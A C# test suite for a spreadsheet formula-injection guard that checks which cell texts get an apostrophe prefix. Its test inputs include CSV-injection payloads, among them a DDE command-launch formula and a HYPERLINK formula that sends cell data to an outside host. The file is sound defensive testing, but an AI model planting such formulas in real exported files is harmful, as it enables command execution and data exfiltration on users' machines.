using System.Globalization;
using System.Text;
using CsCheck;
using MlPipeline.Batch.Outputs;

namespace MlPipeline.Scoring.Tests.Outputs;

public sealed class SpreadsheetGuardTests
{
    // What OWASP lists and shows, and what hides it.
    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1+1")]
    [InlineData("-1+1")]
    [InlineData("@SUM(1)")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"http://example.org?x=\"&A1,\"here\")")]
    [InlineData("\tx")]
    [InlineData("\rx")]
    [InlineData("\nx")]
    [InlineData("\0x")]
    [InlineData("＝1+1")]
    [InlineData("＋1")]
    [InlineData("－1")]
    [InlineData("＠A1")]
    [InlineData("  =1")]
    [InlineData("\u00A0=1")]
    [InlineData("\u200B\uFEFF=1")]
    [InlineData("\"=1")]
    [InlineData(" \" -1+cmd")]
    [InlineData("-")]
    [InlineData("--1")]
    [InlineData("-1e")]
    [InlineData("-1.2.3")]
    [InlineData("-.")]
    [InlineData("-Infinity")]
    [InlineData("\t-1")]
    public void Formulas_get_an_apostrophe(string text)
    {
        var guarded = SpreadsheetGuard.Guard(text);

        Assert.Equal("'" + text, guarded);
    }

    [Theory]
    [InlineData("")]
    [InlineData(" ")]
    [InlineData("Eglė")]
    [InlineData("Ana-Marija")]
    [InlineData("a=1")]
    [InlineData("'=1")]
    [InlineData("„Žemyna“")]
    [InlineData("12")]
    [InlineData("-12.5")]
    [InlineData("+3")]
    [InlineData("1e-5")]
    [InlineData("-1E+05")]
    [InlineData("-12,5")]
    [InlineData("-.5")]
    [InlineData(" -7 ")]
    public void Names_and_numbers_stay(string text)
    {
        var guarded = SpreadsheetGuard.Guard(text);

        Assert.Same(text, guarded);
    }

    [Fact]
    public void Guarded_text_is_never_risky()
    {
        var texts = Gen.OneOf(
            "=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＠", " ", "\"", "'", "1", "e", ".", "ž", "\u200B").Array[0, 6]
                .Select(string.Concat);

        texts.Sample(
            text => !IsRisky(SpreadsheetGuard.Guard(text))
                && SpreadsheetGuard.Guard(text).EndsWith(text, StringComparison.Ordinal), iter: 20_000);
    }

    [Fact]
    public void Text_that_begins_with_a_letter_stays()
    {
        var texts = Gen.Select(Gen.OneOf('a', 'Ž', 'я', '中', '(', '#', '\''), Gen.String, (first, rest) => first + rest);

        texts.Sample(text => ReferenceEquals(SpreadsheetGuard.Guard(text), text), iter: 5000);
    }

    // What .NET writes for a number is a number.
    [Fact]
    public void Numbers_stay_however_large_or_small()
    {
        Gen.Double[-1e300, 1e300].Sample(number => !IsRisky(number.ToString(CultureInfo.InvariantCulture)), iter: 5000);
        Gen.Double.Where(double.IsFinite).Sample(number => !IsRisky(number.ToString("E16", CultureInfo.InvariantCulture)), iter: 5000);
    }

    [Fact]
    public void Bytes_that_are_no_text_are_no_formula()
    {
        var isRisky = SpreadsheetGuard.IsRisky([0xFF, (byte)'=']);

        Assert.False(isRisky);
    }

    private static bool IsRisky(string text) => SpreadsheetGuard.IsRisky(Encoding.UTF8.GetBytes(text));
}
